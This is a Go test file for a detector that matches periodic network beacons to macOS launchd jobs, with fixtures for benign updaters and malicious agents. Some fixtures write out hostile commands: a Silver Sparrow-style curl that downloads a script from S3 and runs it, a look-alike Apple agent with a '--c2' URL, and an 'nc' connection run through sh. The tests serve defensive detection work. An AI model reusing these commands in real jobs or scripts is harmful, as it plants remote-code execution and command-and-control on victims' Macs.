package match

import (
	"strings"
	"testing"
	"time"

	"github.com/launchtap/launchtap/enrich/inventory"
	"github.com/launchtap/launchtap/sensor/alert"
)

var t0 = time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)

func beats(start time.Time, period time.Duration, n int, jitter func(i int) time.Duration) []time.Time {
	out := make([]time.Time, n)
	for i := range out {
		out[i] = start.Add(time.Duration(i) * period)
		if jitter != nil {
			out[i] = out[i].Add(jitter(i))
		}
	}
	return out
}

func cal(minute, hour int) inventory.Calendar {
	return inventory.Calendar{Minute: minute, Hour: hour, Day: inventory.Any, Weekday: inventory.Any, Month: inventory.Any}
}

// Realistic jobs, as they appear on managed Macs.
var (
	demoUpdater = inventory.Job{
		Label: "com.example.updater", Path: "/Users/alice/Library/LaunchAgents/com.example.updater.plist",
		Program:          "/Users/alice/Library/Application Support/.updater/updater",
		ProgramArguments: []string{"/Users/alice/Library/Application Support/.updater/updater", "--server", "cdn.example.net"},
		RunAtLoad:        true, StartInterval: 300, Username: "alice", Modified: t0.Add(-36 * time.Hour),
	}
	jamfDaemon = inventory.Job{
		Label: "com.jamf.management.daemon", Path: "/Library/LaunchDaemons/com.jamf.management.daemon.plist",
		ProgramArguments: []string{"/Library/Application Support/JAMF/Jamf.app/Contents/MacOS/Jamf", "daemon"},
		RunAtLoad:        true, KeepAlive: true, Username: "root",
	}
	jamfCheckin = inventory.Job{
		Label: "com.jamfsoftware.task.1", Path: "/Library/LaunchDaemons/com.jamfsoftware.task.1.plist",
		ProgramArguments: []string{"/usr/local/jamf/bin/jamf", "policy", "-randomDelaySeconds", "300"},
		RunAtLoad:        true, StartInterval: 900, Username: "root",
	}
	mau = inventory.Job{
		Label: "com.microsoft.update.agent", Path: "/Library/LaunchAgents/com.microsoft.update.agent.plist",
		ProgramArguments: []string{"/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/Microsoft Update Assistant.app/Contents/MacOS/Microsoft Update Assistant", "--launchByAgent"},
		RunAtLoad:        true, StartInterval: 7200,
	}
	keystone = inventory.Job{
		Label: "com.google.keystone.agent", Path: "/Users/alice/Library/LaunchAgents/com.google.keystone.agent.plist",
		ProgramArguments: []string{"/Users/alice/Library/Google/GoogleSoftwareUpdate/GoogleSoftwareUpdate.bundle/Contents/Resources/GoogleSoftwareUpdateAgent.app/Contents/MacOS/GoogleSoftwareUpdateAgent", "-runMode", "ifneeded"},
		RunAtLoad:        true, StartInterval: 3523, Username: "alice",
	}
	appleSUD = inventory.Job{
		Label: "com.apple.softwareupdated", Path: "/System/Library/LaunchDaemons/com.apple.softwareupdated.plist",
		Program: "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated",
	}
	appleTimed = inventory.Job{
		Label: "com.apple.timed", Path: "/System/Library/LaunchDaemons/com.apple.timed.plist",
		Program: "/usr/libexec/timed", KeepAlive: true, Username: "_timed",
	}
	applePeriodic = inventory.Job{
		Label: "com.apple.periodic-daily", Path: "/System/Library/LaunchDaemons/com.apple.periodic-daily.plist",
		ProgramArguments:      []string{"/usr/libexec/periodic-wrapper", "daily"},
		StartCalendarInterval: []inventory.Calendar{cal(15, 3)},
	}
	// A masquerading agent: Apple's name, the user's LaunchAgents folder, a
	// hidden binary, KeepAlive so it loops on its own.
	lookalike = inventory.Job{
		Label: "com.apple.softwareupdateagent", Path: "/Users/alice/Library/LaunchAgents/com.apple.softwareupdateagent.plist",
		ProgramArguments: []string{"/Users/alice/Library/.softwareupdate/softwareupdateagent"},
		RunAtLoad:        true, KeepAlive: true, Username: "alice", Modified: t0.Add(-72 * time.Hour),
	}
	// Silver Sparrow: hourly agent in ~/Library/LaunchAgents running curl via sh.
	silverSparrow = inventory.Job{
		Label: "init_verx", Path: "/Users/alice/Library/LaunchAgents/init_verx.plist",
		ProgramArguments: []string{"sh", "-c", "curl -s -L -o /tmp/agent.sh 'https://specialattributes.s3.amazonaws.com/applauncher/agent.sh' && chmod +x /tmp/agent.sh && /tmp/agent.sh"},
		RunAtLoad:        true, StartInterval: 3600, Username: "alice",
	}
	tmpCalendar = inventory.Job{
		Label: "com.updates.hourly", Path: "/Library/LaunchDaemons/com.updates.hourly.plist",
		Program:               "/private/tmp/.cache/u",
		StartCalendarInterval: []inventory.Calendar{cal(7, inventory.Any)},
	}
)

func TestRank(t *testing.T) {
	mac := []inventory.Job{appleSUD, appleTimed, applePeriodic, jamfDaemon, jamfCheckin, mau, keystone}
	tests := []struct {
		name      string
		obs       Observation
		jobs      []inventory.Job
		status    string
		best      string
		wantWhy   []string // substrings of the best job's reasons
		minScore  float64
		secondLow bool // the runner-up must score clearly lower
	}{
		{
			name: "demo beacon names its server and runs every 300 s",
			obs: Observation{FQDN: "cdn.example.net", DstIPs: []string{"203.0.113.10"}, PeriodS: 300, Jitter: 0.003,
				BeatTimes: beats(t0, 300*time.Second, 25, nil), FirstSeen: t0},
			jobs: append([]inventory.Job{demoUpdater}, mac...), status: alert.EnrichMatched, best: "com.example.updater",
			wantWhy:  []string{"StartInterval 300 s matches", "program arguments name cdn.example.net", "~/Library/LaunchAgents", `hidden path component ".updater"`, "non-Apple label", "modified 36 h before"},
			minScore: 0.7, secondLow: true,
		},
		{
			name: "missed beats: observed 900 s is 3x the 300 s interval",
			obs:  Observation{FQDN: "edge.other.example", PeriodS: 900, Jitter: 0.01, FirstSeen: t0},
			jobs: append([]inventory.Job{demoUpdater}, appleSUD, mau), status: alert.EnrichMatched, best: "com.example.updater",
			wantWhy: []string{"3× StartInterval 300 s"},
		},
		{
			name: "Jamf check-in every 15 min with random delay",
			obs:  Observation{FQDN: "acme.jamfcloud.com", PeriodS: 905, Jitter: 0.1, FirstSeen: t0},
			jobs: mac, status: alert.EnrichMatched, best: "com.jamfsoftware.task.1",
			wantWhy: []string{"StartInterval 900 s matches"},
		},
		{
			name: "Microsoft AutoUpdate every 2 h",
			obs:  Observation{FQDN: "officecdnmac.microsoft.com", PeriodS: 7200, Jitter: 0.004, FirstSeen: t0},
			jobs: mac, status: alert.EnrichMatched, best: "com.microsoft.update.agent",
		},
		{
			name: "Silver Sparrow hourly curl to S3 beats Keystone's 3523 s",
			obs: Observation{FQDN: "specialattributes.s3.amazonaws.com", PeriodS: 3600, Jitter: 0.002,
				BeatTimes: beats(t0, time.Hour, 10, nil), FirstSeen: t0},
			jobs: append([]inventory.Job{silverSparrow}, mac...), status: alert.EnrichMatched, best: "init_verx",
			wantWhy:  []string{"StartInterval 3600 s matches", "name specialattributes.s3.amazonaws.com", "/tmp"},
			minScore: 0.7, secondLow: true,
		},
		{
			name: "Apple look-alike with KeepAlive outranks Apple's own jobs",
			obs:  Observation{FQDN: "update-check.example.org", PeriodS: 600, Jitter: 0.3, FirstSeen: t0},
			jobs: append([]inventory.Job{lookalike}, mac...), status: alert.EnrichNoMatch, best: "com.apple.softwareupdateagent",
			wantWhy: []string{"Apple-looking label outside /System", "KeepAlive with no schedule", `hidden path component ".softwareupdate"`},
		},
		{
			name: "look-alike that names its destination is matched",
			obs:  Observation{FQDN: "swupd.evil.example", PeriodS: 600, Jitter: 0.3, FirstSeen: t0},
			jobs: append([]inventory.Job{func() inventory.Job {
				j := lookalike
				j.ProgramArguments = append(j.ProgramArguments, "--c2", "https://swupd.evil.example/api")
				return j
			}()}, mac...), status: alert.EnrichMatched, best: "com.apple.softwareupdateagent",
		},
		{
			name: "hourly StartCalendarInterval fits the beat times in UTC+05:30",
			obs: Observation{FQDN: "x.example.com", PeriodS: 3600, Jitter: 0.01,
				BeatTimes: beats(time.Date(2026, 11, 25, 3, 37, 20, 0, time.UTC), time.Hour, 9, nil), FirstSeen: t0},
			jobs: append([]inventory.Job{tmpCalendar}, mac...), status: alert.EnrichMatched, best: "com.updates.hourly",
			wantWhy: []string{"StartCalendarInterval {Minute=7} fits 9 of 9 beat times"},
		},
		{
			name: "daily calendar job does not explain a 300 s beacon",
			obs: Observation{FQDN: "cdn.example.net", PeriodS: 300, Jitter: 0.003,
				BeatTimes: beats(time.Date(2026, 11, 25, 3, 15, 5, 0, time.UTC), 300*time.Second, 10, nil)},
			jobs: []inventory.Job{applePeriodic, appleSUD}, status: alert.EnrichNoMatch,
		},
		{
			name: "no job explains the traffic",
			obs:  Observation{FQDN: "cdn.example.net", PeriodS: 420, Jitter: 0.01},
			jobs: mac, status: alert.EnrichNoMatch,
		},
		{
			name:   "registered domain only: api.cdn.example.net names example.net",
			obs:    Observation{FQDN: "cdn.example.net", PeriodS: 77, Jitter: 0.01},
			jobs:   []inventory.Job{{Label: "org.x.agent", Path: "/Library/LaunchAgents/org.x.agent.plist", ProgramArguments: []string{"/opt/x/agent", "https://api.example.net/v1"}, RunAtLoad: true}},
			status: alert.EnrichNoMatch, best: "org.x.agent", wantWhy: []string{"registered domain example.net"},
		},
		{
			name:   "address in arguments",
			obs:    Observation{DstIPs: []string{"198.51.100.7"}, PeriodS: 60, Jitter: 0.01},
			jobs:   []inventory.Job{{Label: "net.x.ping", Path: "/Library/LaunchDaemons/net.x.ping.plist", ProgramArguments: []string{"/bin/sh", "-c", "nc 198.51.100.7 443"}, StartInterval: 60}},
			status: alert.EnrichMatched, best: "net.x.ping", wantWhy: []string{"destination address 198.51.100.7"},
		},
		{
			name:   "no jobs at all (windows host)",
			obs:    Observation{FQDN: "telemetry.example.org", PeriodS: 120},
			status: alert.EnrichNoMatch,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res := Rank(tc.obs, tc.jobs)
			if res.Status != tc.status {
				t.Errorf("status %q, want %q; jobs %+v", res.Status, tc.status, res.Jobs)
			}
			if tc.best == "" {
				return
			}
			if len(res.Jobs) == 0 || res.Jobs[0].Label != tc.best {
				t.Fatalf("best job %v, want %s", res.Jobs, tc.best)
			}
			b := res.Jobs[0]
			why := strings.Join(b.Why, " | ")
			for _, w := range tc.wantWhy {
				if !strings.Contains(why, w) {
					t.Errorf("why %q lacks %q", why, w)
				}
			}
			if b.MatchScore < tc.minScore {
				t.Errorf("score %.3f < %.3f (%s)", b.MatchScore, tc.minScore, why)
			}
			if tc.secondLow && len(res.Jobs) > 1 && res.Jobs[1].MatchScore > b.MatchScore-0.3 {
				t.Errorf("runner-up %s scores %.3f, too close to %.3f", res.Jobs[1].Label, res.Jobs[1].MatchScore, b.MatchScore)
			}
			if len(res.Jobs) > MaxJobs {
				t.Errorf("%d jobs > MaxJobs", len(res.Jobs))
			}
		})
	}
}

func TestAppleSystemJobsRankBelowLookalike(t *testing.T) {
	obs := Observation{FQDN: "swscan.apple.com", PeriodS: 3600, Jitter: 0.05}
	res := Rank(obs, []inventory.Job{appleSUD, lookalike, appleTimed})
	if res.Jobs[0].Label != lookalike.Label {
		t.Fatalf("best %s, want the look-alike", res.Jobs[0].Label)
	}
	for _, j := range res.Jobs[1:] {
		if j.MatchScore >= res.Jobs[0].MatchScore/2 {
			t.Errorf("Apple system job %s scores %.3f, look-alike %.3f", j.Label, j.MatchScore, res.Jobs[0].MatchScore)
		}
	}
}

func TestDisabledDamped(t *testing.T) {
	obs := Observation{FQDN: "cdn.example.net", PeriodS: 300, Jitter: 0.01}
	d := demoUpdater
	d.Disabled = true
	on := Rank(obs, []inventory.Job{demoUpdater}).Jobs[0].MatchScore
	off := Rank(obs, []inventory.Job{d}).Jobs[0].MatchScore
	if off >= on*0.5 {
		t.Errorf("disabled %.3f not damped against %.3f", off, on)
	}
}

func TestContainsName(t *testing.T) {
	tests := []struct {
		text, name string
		sub, want  bool
	}{
		{"--server cdn.example.net", "cdn.example.net", false, true},
		{"--server=cdn.example.net:443", "cdn.example.net", false, true},
		{"https://cdn.example.net/x", "cdn.example.net", false, true},
		{"xcdn.example.net", "cdn.example.net", false, false},
		{"a.cdn.example.net", "cdn.example.net", false, false},
		{"cdn.example.network", "cdn.example.net", false, false},
		{"cdn.example.net.evil.org", "cdn.example.net", false, false},
		{"api.example.net", "example.net", true, true},
		{"notexample.net", "example.net", true, false},
		{"cdn.example.net.", "cdn.example.net", false, true},
	}
	for _, tc := range tests {
		if got := containsName(tc.text, tc.name, tc.sub); got != tc.want {
			t.Errorf("containsName(%q, %q, %v) = %v", tc.text, tc.name, tc.sub, got)
		}
	}
	if containsAddr("10.0.0.50", "10.0.0.5") || !containsAddr("ip=10.0.0.5:80", "10.0.0.5") || containsAddr("110.0.0.5", "10.0.0.5") {
		t.Error("containsAddr boundaries")
	}
}

func TestFromAlert(t *testing.T) {
	a := &alert.Alert{DstFQDN: "CDN.Example.NET.", PeriodS: 300, TS: t0}
	o := FromAlert(a)
	if o.FQDN != "cdn.example.net" || !o.FirstSeen.Equal(t0) {
		t.Errorf("FromAlert: %+v", o)
	}
}

func TestRecentWindow(t *testing.T) {
	obs := Observation{FQDN: "cdn.example.net", PeriodS: 300, Jitter: 0.01, FirstSeen: t0}
	for _, c := range []struct {
		mod  time.Time
		want string
	}{
		{t0.Add(-36 * time.Hour), "modified 36 h before the first beat"},
		{t0.Add(5 * 24 * time.Hour), "modified 5 days after the first beat"},
		{t0.Add(-90 * 24 * time.Hour), ""},
		{t0.Add(267 * 24 * time.Hour), ""},
	} {
		j := demoUpdater
		j.Modified = c.mod
		why := strings.Join(Rank(obs, []inventory.Job{j}).Jobs[0].Why, "|")
		if got := strings.Contains(why, "modified"); got != (c.want != "") || (c.want != "" && !strings.Contains(why, c.want)) {
			t.Errorf("modified %v: why %q, want %q", c.mod, why, c.want)
		}
	}
}
